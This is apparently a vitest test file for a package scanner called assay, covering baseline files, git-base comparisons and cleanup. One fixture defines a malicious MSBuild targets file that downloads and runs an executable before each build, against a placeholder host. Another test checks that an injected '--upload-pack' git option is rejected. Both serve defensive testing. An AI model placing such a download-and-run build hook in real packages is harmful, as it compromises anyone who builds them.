import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPackage } from '../kit/package-builder.js';
import { describeWith } from '../kit/tools.js';
import { GitRepository } from '../scan/git/repository.js';
import { assay, bank, quiet, Scratch, stackTrace, type Run, type Setting } from './assay.js';
import { Session } from './session.js';

const scratch = new Scratch();
const session = new Session();
const repositories: GitRepository[] = [];
afterAll(() => {
  session.end();
  scratch.remove();
  for (const repository of repositories) repository.remove();
});

const cached = { ...quiet, ASSAY_CACHE_DIR: join(scratch.root, 'cache') };

async function told(args: readonly string[], code: number, setting?: Setting): Promise<Run> {
  const run = await session.run(args, { env: cached, ...setting });
  expect(run.stderr).not.toMatch(stackTrace);
  expect(run).toMatchObject({ code, signal: null });
  return run;
}

// All scans but one find their packages remembered: what is tried here is not how they are read.
beforeAll(async () => void (await told(['scan', bank], 1)));

/** What a scan says of its baseline, as programs read it. */
async function held(args: readonly string[], code: number, setting?: Setting) {
  const { stdout } = await told(['scan', '--json', ...args], code, setting);
  const { baseline, packages } = JSON.parse(stdout);
  const { source, known, gone, decision } = baseline;
  return { source, known: known.length, gone, decision, packages: packages.length };
}

const golden = (name: string): string => join(import.meta.dirname, 'golden', `${name}.txt`);
const rulesDigest = /"rulesDigest": "[0-9a-f]{64}"/;

/** A baseline of the bank's example, which accepts its look-alike. */
async function accepted(name: string): Promise<string> {
  const file = join(scratch.folder(name), 'baseline.json');
  const { stderr } = await told(['scan', bank, '--write-baseline', file], 1);
  expect(stderr).toBe(
    `assay: wrote 3 findings and 0 gaps to ${file}; review it before anything relies on it\n`,
  );
  return file;
}

describe('a baseline file', () => {
  it('is small, and the same every time', async () => {
    const [one, two] = await Promise.all([accepted('one'), accepted('two')]);
    const text = readFileSync(one, 'utf8');
    expect(readFileSync(two, 'utf8')).toBe(text);
    expect(readdirSync(join(one, '..'))).toEqual(['baseline.json']);
    await expect(text.replace(rulesDigest, '"rulesDigest": "…"')).toMatchFileSnapshot(
      golden('baseline'),
    );
  });

  it('lets pass what it lists, and hides nothing', async () => {
    const file = await accepted('passes');
    const { stdout } = await told(['scan', '--baseline', file], 0, { cwd: bank });
    expect(stdout).toContain('3 known before');
    expect(stdout).toContain('1 malicious');
    expect(stdout).toContain(file);
    const json = await told(['scan', bank, '--json', '--baseline', file], 0);
    const { baseline, ...rest } = JSON.parse(json.stdout);
    expect(baseline).toMatchObject({ source: file, gone: 0, decision: 'allow' });
    expect(baseline.known).toHaveLength(3);
    expect(rest).toEqual(JSON.parse((await told(['scan', bank, '--json'], 1)).stdout));
  });

  it('shows what is new', async () => {
    const all = JSON.parse(readFileSync(await accepted('new'), 'utf8'));
    const gone = { ...all.findings[0], fingerprint: '0'.repeat(32) };
    const file = scratch.write(
      'less.json',
      JSON.stringify({ ...all, findings: [gone], tool: { version: '0', rulesDigest: '0' } }),
    );
    const { stdout } = await told(['scan', '--baseline', file], 1, { cwd: bank });
    expect(stdout).toContain('Library takes your key material');
    await told(['scan', '--baseline', file, '--fail-on', 'block'], 1, { cwd: bank });
  });

  it('may be the JSON of a whole scan', async () => {
    const { stdout } = await told(['scan', bank, '--json'], 1);
    const file = scratch.write('scan.json', stdout);
    await told(['scan', bank, '--baseline', file], 0);
  });

  it('does not permit what is worse than it says', async () => {
    const text = readFileSync(await accepted('worse'), 'utf8');
    const file = scratch.write('milder.json', text.replace('"malicious"', '"note"'));
    await told(['scan', bank, '--baseline', file], 1);
  });
});

describe('a baseline that cannot be read', () => {
  const empty = '{"schema": "assay/baseline/1", "findings": [], "gaps": []';
  const file = (name: string, text: string): string => scratch.write(`bad/${name}`, text);
  it.each([
    ['is missing', 'no/such.json', 2, 'no/such.json does not exist'],
    ['is a folder', bank, 3, 'not a regular file'],
    ['is empty', file('empty', ''), 3, 'bad/empty: '],
    ['breaks off', file('half', empty), 3, 'bad/half: '],
    ['is of another schema', file('other', '{"schema": "x/1"}'), 3, 'says schema x/1'],
    ['is a package', join(bank, 'feed/example.money.3.1.0.nupkg'), 3, '.nupkg: '],
    ['has no tool', file('toolless', `${empty}}`), 3, '"tool" is missing (line 1)'],
  ])('(it %s) ends the command before anything is said', async (_, path, code, message) => {
    const { stdout, stderr } = await told(['scan', bank, '--baseline', path], code);
    expect([stdout, stderr.startsWith('assay: '), stderr.split('\n').length]).toEqual([
      '',
      true,
      2,
    ]);
    expect(stderr).toContain(message);
  });

  it('or written is told, and leaves what was there', async () => {
    const folder = scratch.folder('target');
    const run = await told(['scan', bank, '--write-baseline', folder], 2);
    expect(run.stderr).toMatch(/^assay: the baseline cannot be written: E/);
    const below = ['scan', bank, '--write-baseline', join(bank, 'README.md/b.json')];
    expect((await told(below, 2)).stderr).toContain('the baseline cannot be written: ENOTDIR');
    expect(readdirSync(scratch.root).filter((name) => name.includes('.tmp'))).toEqual([]);
  });
});

/** The bank's example as a git repository with one commit. */
function repositoryOf(): GitRepository {
  const repository = new GitRepository();
  repositories.push(repository);
  cpSync(bank, repository.top, { recursive: true });
  repository.commit();
  return repository;
}

/** A temporary folder of its own, to see what is left in it. */
function withTemporary(repository: GitRepository): Setting & { temporary: string } {
  const temporary = join(repository.root, 'temporary');
  mkdirSync(temporary, { recursive: true });
  const env = { ...cached, TMPDIR: temporary, GIT_CONFIG_NOSYSTEM: '1' };
  return { cwd: repository.top, env, temporary };
}

/** Puts a package into the feed and the lock file, as an update of dependencies would. */
function addPackage(repository: GitRepository, id: string, files: Record<string, string>): void {
  repository.write(`feed/${id.toLowerCase()}.1.0.0.nupkg`, buildPackage({ id, files }));
  const lock = join(repository.top, 'src/Reports/packages.lock.json');
  const text = readFileSync(lock, 'utf8').replace(
    /"net10.0": \{/,
    `"net10.0": { "${id}": { "type": "Direct", "resolved": "1.0.0" },`,
  );
  writeFileSync(lock, text);
}

const evil = {
  'build/Evil.targets': `<Project><Target Name="T" BeforeTargets="Build">
    <DownloadFile SourceUrl="https://a.invalid/x.exe" DestinationFolder="$(TEMP)" DestinationFileName="x.exe" />
    <Exec Command="$(TEMP)\\x.exe" Condition="'$(NOBODY_SETS_THIS)' == 'true'" />
  </Target></Project>`,
};

describeWith('git', 'a base', () => {
  it('lets pass what was there, and not what was added since', async () => {
    const repository = repositoryOf();
    const setting = withTemporary(repository);
    const id = repository.git('rev-parse', 'HEAD');
    const same = { known: 3, gone: 0, decision: 'allow' };
    const source = `main (commit ${id.slice(0, 12)})`;
    expect(await held(['--base', 'main'], 0, setting)).toMatchObject({ ...same, source });
    addPackage(repository, 'Evil', evil);
    const more = await held(['--base', id.slice(0, 12)], 1, setting);
    expect(more).toMatchObject({
      source: `commit ${id.slice(0, 12)}`,
      known: 3,
      packages: 7,
      decision: 'hold',
    });
    expect(readdirSync(setting.temporary)).toEqual([]);
    repository.commit();
    await told(['scan', 'src/Reports', '--base', 'HEAD'], 0, setting);
    await told(['scan', 'src/Reports', '--base', 'HEAD~1'], 1, setting);
    await told(['scan', 'src/Reports/Reports.csproj', '--base', 'HEAD~1'], 1, setting);
    await told(['scan', 'Bank.slnx', '--base', 'HEAD~1'], 1, setting);
  });

  it('that has nothing at the path has everything new', async () => {
    const repository = repositoryOf();
    cpSync(join(repository.top, 'src/Payments'), join(repository.top, 'src/New'), {
      recursive: true,
    });
    const run = await told(['scan', 'src/New', '--base', 'HEAD'], 1, withTemporary(repository));
    expect(run.stderr).toBe(
      'assay: HEAD has nothing to scan at src/New: everything counts as new\n',
    );
  });

  it('with a baseline takes it from the commit: a change to it permits nothing', async () => {
    const repository = repositoryOf();
    const setting = withTemporary(repository);
    const write = ['scan', '--write-baseline', 'assay.baseline.json'];
    const check = ['scan', '--base', 'HEAD', '--baseline', 'assay.baseline.json'];
    await told(write, 1, setting);
    const first = await told(check, 1, setting);
    expect(first.stderr).toBe('assay: HEAD has no assay.baseline.json: everything counts as new\n');
    repository.commit();
    await told(check, 0, setting);
    addPackage(repository, 'Evil', evil);
    await told(write, 1, setting);
    await told(['scan', '--baseline', 'assay.baseline.json'], 0, setting);
    const { source } = await held(check.slice(1), 1, setting);
    expect(source).toMatch(/^assay\.baseline\.json at HEAD \(commit [0-9a-f]{12}\)$/);
    rmSync(join(repository.top, 'assay.baseline.json'));
    await told(check, 1, setting);
  });

  it('does not read a baseline that is a link, is damaged, or lies elsewhere', async () => {
    const repository = repositoryOf();
    const setting = withTemporary(repository);
    symlinkSync('README.md', join(repository.top, 'link.json'));
    repository.write('broken.json', '{"schema": "assay/baseline/1"');
    repository.commit();
    const check = (file: string) =>
      told(['scan', '--base', 'HEAD', '--baseline', file], 3, setting).then((run) => run.stderr);
    expect(await check('link.json')).toContain('is no regular file at that commit');
    expect(await check('broken.json')).toMatch(/^assay: broken.json at HEAD .*: /);
    expect(await check('../elsewhere.json')).toContain('is outside the repository');
  });

  it('that is no commit ends the command', async () => {
    const repository = repositoryOf();
    const setting = withTemporary(repository);
    const { stderr } = await told(['scan', '--base', 'no-such'], 3, setting);
    expect(stderr).toMatch(
      /^assay: .*: there is no commit no-such; git log shows which there are\n$/,
    );
    const option = await told(['scan', '--base=--upload-pack=x'], 2, setting);
    expect(option.stderr).toContain(
      '--base takes a commit, a branch or a tag, not "--upload-pack=x"',
    );
    const outside = { ...setting, cwd: repository.root };
    await told(['scan', bank, '--base', 'no-such'], 3, outside);
    cpSync(bank, join(repository.root, 'plain'), { recursive: true });
    const plain = await told(['scan', 'plain', '--base', 'HEAD'], 3, outside);
    expect(plain.stderr).toContain('is not in a git repository');
  });

  it('is not told by a configuration that somebody put beside the temporary folder', async () => {
    const repository = repositoryOf();
    const setting = withTemporary(repository);
    const planted = `<configuration><packageSources><clear /></packageSources>
      <config><add key="globalPackagesFolder" value="${repository.root}/planted" /></config></configuration>`;
    rmSync(join(repository.top, 'NuGet.Config'));
    writeFileSync(join(repository.root, 'NuGet.Config'), readFileSync(join(bank, 'NuGet.Config')));
    cpSync(join(bank, 'feed'), join(repository.root, 'feed'), { recursive: true });
    repository.commit();
    writeFileSync(join(setting.temporary, 'NuGet.Config'), planted);
    // The feed of the folder above the repository is used for both, as a restore would.
    expect(await held(['--base', 'HEAD'], 0, setting)).toMatchObject({ known: 3, gone: 0 });
  });

  it('leaves nothing behind when it is interrupted', async () => {
    const repository = repositoryOf();
    const setting = withTemporary(repository);
    const script =
      'foreach ($a in $b) { Invoke-Thing -Name "$($c.d)" | Where-Object { $_.e -eq "f" } }\n';
    const files = Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => [`tools/s${i}.ps1`, script.repeat(3_000)]),
    );
    addPackage(repository, 'Slow', files);
    repository.commit();
    let seen = false;
    const run = await assay(['scan', '--base', 'HEAD', '--no-cache'], {
      ...setting,
      started: (child) => {
        const clock = setInterval(() => {
          const [folder] = readdirSync(setting.temporary);
          if (!folder || !existsSync(join(setting.temporary, folder, 'repository/src'))) return;
          seen = true;
          clearInterval(clock);
          setTimeout(() => child.kill('SIGINT'), 300);
        }, 10);
        child.on('close', () => clearInterval(clock));
      },
    });
    expect(seen).toBe(true);
    expect([run.code, run.stdout]).toEqual([3, '']);
    expect(run.stderr).toBe('assay: interrupted; nothing was decided\n');
    expect(readdirSync(setting.temporary)).toEqual([]);
  });

  it('needs a temporary folder, and says so', async () => {
    const repository = repositoryOf();
    const { env, cwd } = withTemporary(repository);
    const gone = { cwd: cwd ?? '', env: { ...env, TMPDIR: '/no/such' } };
    const { stderr } = await told(['scan', '--base', 'HEAD'], 3, gone);
    expect(stderr).toContain('no temporary folder can be made there');
    chmodSync(repository.root, 0o755);
  });
});
